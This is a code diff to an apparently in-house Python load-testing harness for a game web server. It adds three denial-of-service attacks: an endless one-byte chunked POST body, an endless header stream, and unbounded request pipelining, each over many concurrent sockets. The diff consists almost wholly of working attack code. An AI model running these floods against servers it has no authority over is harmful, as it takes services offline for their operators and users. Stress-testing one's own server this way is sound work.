@@ -279,6 +279,64 @@ async def requests(target: Target) -> Loot:
     )
 
 
+# ---- Bytes of requests
+
+
+async def pour_requests(target: Target, did: str, first: bytes, more: bytes) -> Loot:
+    """Begin something and send more of it for ever; come back when thrown out. Counts kilobytes."""
+    loot, in_time = Loot(did, gained={"connections": 0}), target.stopwatch()
+
+    async def pour() -> None:
+        while in_time():
+            try:
+                reader, writer = await asyncio.open_connection(*target.server, local_addr=(target.enemy, 0))
+            except OSError:
+                loot.refused += 1
+                await asyncio.sleep(0.05)
+                continue
+            loot.gained["connections"] += 1
+            listening = asyncio.ensure_future(listen(reader))
+            with suppress(OSError):
+                writer.write(first)
+                while in_time() and not listening.done() and not writer.is_closing():
+                    writer.write(more)
+                    loot.times += len(more) // 1_000
+                    await writer.drain()
+                    await asyncio.sleep(0.001)  # other attacks may share this loop
+            loot.refused += listening.done() or writer.is_closing()
+            listening.cancel()
+            writer.transport.abort()
+
+    async def listen(reader: asyncio.StreamReader) -> None:
+        """Take all answers, until there are no more."""
+        with suppress(OSError):
+            while await reader.read(65_536):
+                pass
+
+    await all_at_once([pour() for _ in range(SOCKETS)], target.seconds)
+    return loot
+
+
+async def pieces(target: Target) -> Loot:
+    """A body without end, in pieces of a byte each."""
+    first = (
+        f"POST /api/me HTTP/1.1\r\nHost: {target.host}\r\nOrigin: http://{target.host}\r\n"
+        "Transfer-Encoding: chunked\r\n\r\n"
+    )
+    return await pour_requests(target, "kilobytes", first.encode(), b"1\r\n \r\n" * CHUNK)
+
+
+async def heads(target: Target) -> Loot:
+    """A head without end."""
+    return await pour_requests(target, "kilobytes", b"GET / HTTP/1.1\r\n", b"a: b\r\n" * CHUNK)
+
+
+async def pipeline(target: Target) -> Loot:
+    """One question after another, without waiting for the answers."""
+    question = f"GET /api/games HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
+    return await pour_requests(target, "kilobytes", b"", question * CHUNK)
+
+
 # ---- Rooms (M3, M5)
 
 
@@ -401,6 +459,9 @@ ATTACKS: Final[dict[str, Attack]] = {
     "rooms": Attack(rooms, 20),
     "codes": Attack(codes, 20),
     "requests": Attack(requests, 20),
+    "pieces": Attack(pieces, 100),
+    "heads": Attack(heads, 100),
+    "pipeline": Attack(pipeline, 100),
     "visits": Attack(visits, 5),
     "gallery": Attack(gallery, 5),
     "mob": Attack(mob, 20),
